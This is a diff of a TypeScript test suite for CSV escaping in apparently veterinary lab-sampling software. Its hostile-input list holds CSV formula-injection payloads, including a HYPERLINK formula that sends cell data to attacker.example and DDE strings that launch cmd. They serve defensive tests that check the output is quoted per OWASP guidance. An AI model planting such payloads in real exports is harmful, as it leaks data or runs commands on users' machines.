@@ -19,13 +19,13 @@ const workspace = workspacesPerTest();
 /** The hostile forms OWASP's "CSV Injection" page lists (formula, DDE, at-sign, and the two control characters). */
 const HOSTILE = [
   '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   "+cmd|' /C calc'!A0",
   '-1+1',
   '\t=1+1',
   '\r=1+1',
   '=1+1',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
 ];
 
 const readCsv = (text: string): string[][] => parse(text, { relax_column_count: false });
@@ -34,7 +34,10 @@ describe('csvCell and csvTable', () => {
   it('puts a single quote before every hostile form and keeps the rest of the text', () => {
     // OWASP "CSV Injection": prepend a single quote to cells starting with = + - @ 0x09 0x0D.
     for (const text of HOSTILE) expect(csvCell(text), JSON.stringify(text)).toBe(`'${text}`);
-    const table = csvTable(['sample_id', 'note'] as const, HOSTILE.map((text) => ({ sample_id: text, note: 'ok' })));
+    const table = csvTable(
+      ['sample_id', 'note'] as const,
+      HOSTILE.map((text) => ({ sample_id: text, note: 'ok' })),
+    );
     const [header, ...cells] = readCsv(table);
     expect(header).toEqual(['sample_id', 'note']);
     expect(cells.map((row) => row[0])).toEqual(HOSTILE.map((text) => `'${text}`));
@@ -44,12 +47,14 @@ describe('csvCell and csvTable', () => {
 
   it('leaves plain numbers alone, signed or with an exponent, as text or as numbers', () => {
     // Common practice, no source: a spreadsheet reads these as values; quoting them would turn numbers into text.
-    for (const text of ['-1.5', '-0', '1e-3', '-1e-3', '+2', '-.5', '36.2', '0']) expect(csvCell(text), text).toBe(text);
+    for (const text of ['-1.5', '-0', '1e-3', '-1e-3', '+2', '-.5', '36.2', '0'])
+      expect(csvCell(text), text).toBe(text);
     expect(csvCell(-1.5)).toBe('-1.5');
     expect(csvCell(-0.000001)).toBe('-0.000001');
     expect(csvCell(1e-7)).toBe('1e-7');
     // Not a number: an expression, a sign alone, a number with something after it.
-    for (const text of ['-1+1', '-', '+', '-1.5x', '-1,5', '- 1', '-Infinity', '-NaN']) expect(csvCell(text), text).toBe(`'${text}`);
+    for (const text of ['-1+1', '-', '+', '-1.5x', '-1,5', '- 1', '-Infinity', '-NaN'])
+      expect(csvCell(text), text).toBe(`'${text}`);
   });
 
   it('leaves ordinary text, blanks and booleans as they were', () => {
@@ -84,7 +89,12 @@ describe('hostile text in real outputs', () => {
     );
     expect((await ws.drop('ropes.csv', sheet)).receipt.rows.accepted).toBe(4);
     const results = northfieldExport(
-      ids.map((sampleId, index) => ({ sampleId, assay: 'PRRSV' as const, ct: index === 0 ? 30 : null, collectedOn: '2026-08-03' })),
+      ids.map((sampleId, index) => ({
+        sampleId,
+        assay: 'PRRSV' as const,
+        ct: index === 0 ? 30 : null,
+        collectedOn: '2026-08-03',
+      })),
       '2026-08-06',
       1,
     );
@@ -94,11 +104,18 @@ describe('hostile text in real outputs', () => {
     const roundDir = path.join(ws.paths.outbox, 'hollow-creek', 'r01-2026-08-03');
     const rows = readCsv(fs.readFileSync(path.join(roundDir, 'summary.csv'), 'utf8'));
     const header = rows[0]!;
-    const sampleIds = rows.slice(1).map((row) => row[header.indexOf('sample_ids')]!).filter((cell) => cell !== '');
+    const sampleIds = rows
+      .slice(1)
+      .map((row) => row[header.indexOf('sample_ids')]!)
+      .filter((cell) => cell !== '');
     expect(sampleIds.sort()).toEqual(ids.map((id) => `'${id}`).sort());
-    for (const row of rows) for (const cell of row) if (!/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const row of rows)
+      for (const cell of row)
+        if (!/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     // The JSON twin keeps what the lab wrote.
-    const json = JSON.parse(fs.readFileSync(path.join(roundDir, 'summary.json'), 'utf8')) as { pens: { sampleIds: string[] }[] };
+    const json = JSON.parse(fs.readFileSync(path.join(roundDir, 'summary.json'), 'utf8')) as {
+      pens: { sampleIds: string[] }[];
+    };
     expect(json.pens.flatMap((pen) => pen.sampleIds).sort()).toEqual([...ids].sort());
   });
 
@@ -111,10 +128,15 @@ describe('hostile text in real outputs', () => {
     fs.writeFileSync(path.join(ws.paths.configDir, 'sites.yaml'), hostileRows);
     const site = ws.config().siteById.get('HOLLOW-CREEK')!;
     await ws.drop('ropes.csv', ropeSheet(site, [{ sampleId: 'C1', barnId: 'F3', penId: '=N1', hungOn: '2026-08-03' }]));
-    await ws.drop('nvdl_r.csv', northfieldExport([{ sampleId: 'C1', assay: 'PRRSV', ct: 28, collectedOn: '2026-08-03' }], '2026-08-06', 1));
+    await ws.drop(
+      'nvdl_r.csv',
+      northfieldExport([{ sampleId: 'C1', assay: 'PRRSV', ct: 28, collectedOn: '2026-08-03' }], '2026-08-06', 1),
+    );
 
     const siteDir = path.join(ws.paths.outbox, 'hollow-creek');
-    const plan = JSON.parse(fs.readFileSync(path.join(siteDir, 'next-round.json'), 'utf8')) as { ropes: { barnId: string; penId: string; side: string; sampleId: string }[] };
+    const plan = JSON.parse(fs.readFileSync(path.join(siteDir, 'next-round.json'), 'utf8')) as {
+      ropes: { barnId: string; penId: string; side: string; sampleId: string }[];
+    };
     const f3 = plan.ropes.filter((rope) => rope.barnId === 'F3');
     expect(f3.length).toBeGreaterThan(0);
     // The JSON keeps the raw labels.
@@ -122,8 +144,8 @@ describe('hostile text in real outputs', () => {
     const rows = readCsv(fs.readFileSync(path.join(siteDir, 'next-round.csv'), 'utf8'));
     const header = rows[0]!;
     const csvF3 = rows.slice(1).filter((row) => row[header.indexOf('barn')] === 'F3');
-    expect(csvF3.map((row) => [row[header.indexOf('sample_id')], row[header.indexOf('pen')], row[header.indexOf('side')]])).toEqual(
-      f3.map((rope) => [rope.sampleId, `'${rope.penId}`, `'${rope.side}`]),
-    );
+    expect(
+      csvF3.map((row) => [row[header.indexOf('sample_id')], row[header.indexOf('pen')], row[header.indexOf('side')]]),
+    ).toEqual(f3.map((rope) => [rope.sampleId, `'${rope.penId}`, `'${rope.side}`]));
   });
 });
